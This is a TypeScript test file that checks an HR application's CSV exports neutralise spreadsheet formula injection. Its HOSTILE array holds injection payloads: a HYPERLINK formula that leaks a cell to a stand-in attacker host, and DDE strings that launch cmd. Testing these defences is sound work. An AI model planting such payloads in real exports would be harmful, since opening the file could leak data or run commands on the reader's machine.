import { parse } from 'csv-parse/sync';
import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { silentLogger } from '../../src/logging/logger.js';
import { createBroadcastService } from '../../src/modules/broadcast/broadcast-service.js';
import { registerBroadcastRenderer } from '../../src/modules/broadcast/delivery.js';
import { createGapContext } from '../../src/modules/gap/context.js';
import { computeUnitGap } from '../../src/modules/gap/gap.js';
import { unitCoverageCsv, unitGapCsv } from '../../src/modules/gap/export.js';
import { registrationCsv } from '../../src/modules/registration/export.js';
import { createDelivery } from '../../src/modules/delivery/delivery.js';
import { createInstallationStatus } from '../../src/modules/delivery/installation-status.js';
import { outboxCsv } from '../../src/modules/delivery/outbox.js';
import { createOrgService } from '../../src/modules/org/org-service.js';
import { fixedClock } from '../../src/shared/dates.js';
import { csvField, csvRow, toCsv } from '../../src/shared/csv.js';
import { openMemoryStore } from '../../src/storage/open-store.js';
import { projectRoot } from '../../src/util/project-root.js';
import { employee, NOW, registration, testContent } from '../modules/registration/fixtures.js';

/** What a spreadsheet would run as a formula (or a DDE command) if written raw. */
const HOSTILE = ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '-2+3', '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;

const readCsv = (text: string): string[][] => parse(text, { delimiter: ';', bom: true, relax_column_count: false }) as string[][];

/** Every cell is safe, and every hostile value made it through (as text with a leading apostrophe). */
function expectNeutralised(name: string, csv: string) {
  const cells = readCsv(csv).flat();
  expect(cells.filter((c) => FORMULA_START.test(c)), `${name}: cells a spreadsheet would run`).toEqual([]);
  const present = HOSTILE.filter((h) => cells.some((c) => c.includes(`'${h}`)));
  expect(present.length, `${name}: hostile values that reached the file`).toBeGreaterThan(0);
}

describe('csvField', () => {
  it.each(HOSTILE)('When a field starts like a formula (%j), then it gets an apostrophe and quotes, and reads back as that text', (value) => {
    const field = csvField(value);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(readCsv(`${field}\r\n`)[0]).toEqual([`'${value}`]);
  });

  it('When a row mixes text, numbers and empty cells, then numbers stay numbers and separators are quoted', () => {
    expect(csvRow(['a;b', -3, undefined, 'si "hei"', true])).toBe('"a;b";-3;;"si ""hei""";Ja');
    expect(toCsv(['x'], [['=1']])).toBe('\uFEFFx\r\n"\'=1"\r\n');
  });
});

describe('every CSV the project writes', () => {
  it('When every CSV writer is fed the same hostile names, titles, units and free text, then no cell starts like a formula', async () => {
    // An organisation whose imported names, titles and unit names are hostile.
    const org = JSON.parse(readFileSync(join(projectRoot, 'test/fixtures/org/small-org.json'), 'utf8')) as {
      units: { name: string }[];
      employees: { name: string; position: { title: string } }[];
    };
    org.units.forEach((u, i) => (u.name = HOSTILE[i % HOSTILE.length]!));
    org.employees.forEach((e, i) => {
      e.name = HOSTILE[i % HOSTILE.length]!;
      e.position.title = HOSTILE[(i + 1) % HOSTILE.length]!;
    });
    const seedFile = join(mkdtempSync(join(tmpdir(), 'kbot-csv-')), 'org.json');
    writeFileSync(seedFile, JSON.stringify(org));

    const store = await openMemoryStore();
    const clock = fixedClock('2026-11-23T10:00:00Z');
    const orgService = await createOrgService({ store, clock, logger: silentLogger, seedFile });
    const sender = { send: async () => ({ activityId: 'a-1' }) };
    const delivery = createDelivery({ store, org: orgService, sender, clock, logger: silentLogger, sleep: async (ms) => clock.advance(ms), ratePerSecond: 1000 });
    registerBroadcastRenderer(delivery.renderers);
    const broadcast = createBroadcastService({ org: orgService, delivery, qaTitle: () => undefined, clock, logger: silentLogger, hrContact: 'HR' });
    const hr = { kind: 'employee' as const, employeeId: '1007' };
    const sent = await broadcast.send(hr, { title: 'Ny rutine', text: 'Les den.', audience: { kind: 'everyone' } }, 'b-csv');
    expect(sent.ok).toBe(true);

    // 1. The broadcast report (names and units from the import).
    const report = await broadcast.reportCsv(hr, 'b-csv');
    if (!report.ok) throw new Error(report.reason);
    expectNeutralised('broadcast report', report.file.content);

    // 2. The installation status (names, titles, units).
    const status = createInstallationStatus({ org: orgService, refs: { reachableEmployeeIds: async () => new Set<string>() }, clock, hrContact: 'HR' });
    const missing = await status.exportCsv('1007');
    if (!('file' in missing)) throw new Error('expected a file');
    expectNeutralised('installation status', missing.file.content);

    // 3. The outbox CSV (names through nameOf).
    const items = await delivery.outbox.list('b-csv');
    const names = new Map(orgService.directory().snapshot.employees.map((e) => [e.employeeId, e.name]));
    expectNeutralised('outbox', outboxCsv(items, (i) => (i.recipient.kind === 'employee' ? names.get(i.recipient.employeeId) : undefined)));

    // 4. A registration (the employee's own free text).
    const content = testContent();
    const reg = registration('1234', {
      experience: [{ role: HOSTILE[0]!, workplace: HOSTILE[1]!, from: '2015-08', competenceIds: [] }],
      courses: [{ name: HOSTILE[2]!, completedOn: '2026-03-01', hours: 4, inProgress: false, competenceIds: [] }],
      mobilisation: { competenceIds: [], note: HOSTILE[3]! },
    });
    expectNeutralised('registration', registrationCsv(reg, content));

    // 5. The unit gap and its coverage matrix (names, unit name).
    const people = [employee('r1', 'skole', 'Rektor', '1000', { name: HOSTILE[4]! }), employee('a1', 'skole', 'Assistent', '2000', { name: HOSTILE[5]! })];
    const gap = computeUnitGap(createGapContext(content, NOW), { id: 'skole', name: HOSTILE[0]! }, people, new Map());
    expectNeutralised('unit gap', unitGapCsv(gap));
    const coverage = readCsv(unitCoverageCsv(gap)).flat();
    expect(coverage.filter((c) => FORMULA_START.test(c))).toEqual([]);
  });

  it('When a source file offers a CSV, then it writes it with the shared writer (src/shared/csv.ts)', () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (path.endsWith('.ts')) files.push(path);
      }
    };
    walk(join(projectRoot, 'src'));
    const writers = files.filter((f) => /text\/csv|\.join\(';'\)|\\uFEFF' \+/.test(readFileSync(f, 'utf8')));
    expect(writers.length).toBeGreaterThan(0);
    for (const f of writers) {
      const text = readFileSync(f, 'utf8');
      const shared = /from '(\.\.\/)+shared\/csv\.js'|from '\.\/export\.js'/.test(text) || f.endsWith(join('shared', 'csv.ts'));
      expect(shared, relative(projectRoot, f)).toBe(true);
      expect(/\.join\(';'\)/.test(text), `${relative(projectRoot, f)} joins with ';' by hand`).toBe(false);
    }
  });
});
